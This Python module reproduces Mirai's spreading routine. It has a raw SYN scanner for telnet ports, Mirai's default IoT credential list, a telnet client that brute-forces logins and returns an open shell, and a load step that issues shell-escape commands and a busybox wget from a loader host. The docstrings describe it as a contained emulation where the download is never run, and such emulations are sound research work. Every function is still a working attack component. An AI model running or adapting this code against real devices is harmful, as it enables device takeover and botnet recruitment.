"""A bot's way of spreading, as the published Mirai source does it, without a bot: stateless SYNs to 23 and 2323 with the address
as sequence number, default credentials over telnet, a download from the loader. What is downloaded is text and is not run.

Every function works inside the namespace the calling thread has entered and only on the targets it is given.
"""

import random
import select
import socket
import struct
import time

# The first pairs of the list in Mirai's scanner.c, as every analysis of it prints them; `admin admin` is what opens our devices.
CREDENTIALS = (("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("root", "888888"), ("root", "xmhdipc"),
               ("root", "default"), ("support", "support"), ("root", "54321"), ("user", "user"), ("admin", "admin"))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, target, source_port, port, sequence, identity):
    """One IPv4 packet with a bare SYN, checksums right."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 0x50, 2, 5840 + identity % 4096, 0, 0)
    total = checksum(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), identity, 0, 64, 6, 0) + ends
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + tcp


def scan(source, targets, per_second, seed, second_port=0.1, stop=lambda: False):
    """Sends one SYN to each target, nine of ten to port 23; gives the (address, port) pairs that answered with SYN-ACK."""
    chance = random.Random(seed)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    listener = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    source_port, answered = chance.randrange(1024, 65000), []
    last = time.monotonic() + 2 + len(targets) / per_second
    remaining = list(targets)
    due = time.monotonic()
    while time.monotonic() < last and not stop():
        if remaining and time.monotonic() >= due:
            due += 1 / per_second
            target = remaining.pop(0)
            port = 2323 if chance.random() < second_port else 23
            sequence = struct.unpack("!I", socket.inet_aton(target))[0]
            try:
                sender.sendto(syn(source, target, source_port, port, sequence, chance.randrange(65536)), (target, 0))
            except OSError:
                pass  # no such host on the link
        while select.select([listener], [], [], 0.002)[0]:
            packet = listener.recv(2048)
            offset = (packet[0] & 15) * 4
            if packet[offset + 13] & 0x3F == 0x12 and struct.unpack("!H", packet[offset + 2 : offset + 4])[0] == source_port:
                found = (socket.inet_ntoa(packet[12:16]), struct.unpack("!H", packet[offset : offset + 2])[0])
                if found not in answered:
                    answered.append(found)
        time.sleep(min(0.004, 0.5 / per_second))
    return answered


class Telnet:
    """Enough of a telnet client to talk to a login prompt: every option is refused."""

    def __init__(self, address, port):
        self.socket = socket.create_connection((address, port), timeout=8)
        self.text = b""

    def expect(self, *words, seconds=9):
        """Reads until one of the words was printed; gives the word, or None when none came."""
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            for word in words:
                if word in self.text:
                    self.text = self.text.split(word, 1)[1]
                    return word
            if select.select([self.socket], [], [], 0.2)[0]:
                data = self.socket.recv(4096)
                if not data:
                    return None
                self.text += self._negotiate(data)
        return None

    def say(self, line):
        self.socket.sendall(line.encode() + b"\r\n")

    def close(self):
        self.socket.close()

    def _negotiate(self, data):
        plain, place = b"", 0
        while place < len(data):
            if data[place] != 255:
                plain += data[place : place + 1]
                place += 1
            elif data[place + 1 : place + 2] in (b"\xfb", b"\xfc", b"\xfd", b"\xfe"):
                answer = {0xFB: 0xFE, 0xFD: 0xFC}.get(data[place + 1])
                if answer:
                    self.socket.sendall(bytes((255, answer)) + data[place + 2 : place + 3])
                place += 3
            elif data[place + 1 : place + 2] == b"\xfa":
                end = data.find(b"\xff\xf0", place)
                place = len(data) if end < 0 else end + 2
            else:
                place += 2
        return plain


def try_logins(address, port, credentials=CREDENTIALS, tries=10):
    """One connection for each pair, as Mirai does; gives the open session of the first that is let in, or None."""
    for user, password in credentials[:tries]:
        try:
            session = Telnet(address, port)
            if session.expect(b"login:") is None:
                session.close()
                continue
            session.say(user)
            session.expect(b"assword:")
            session.say(password)
            if session.expect(b"incorrect", b"$ ", b"# ") in (b"$ ", b"# "):
                return session
            session.close()
        except OSError:
            continue
    return None


def load(session, loader, file="bins/bot.arm7"):
    """The loader's commands in the shell of the device that let us in: it fetches a file, and nothing runs it."""
    for line in ("enable", "system", "shell", "sh", "/bin/busybox LAPWING"):
        session.say(line)
        session.expect(b"$ ", b"# ", seconds=2)
    session.say(f"/bin/busybox wget -O - http://{loader}/{file} > /dev/null; echo DONE-$((40+2))")
    done = session.expect(b"DONE-42", seconds=15)
    session.close()
    return done is not None
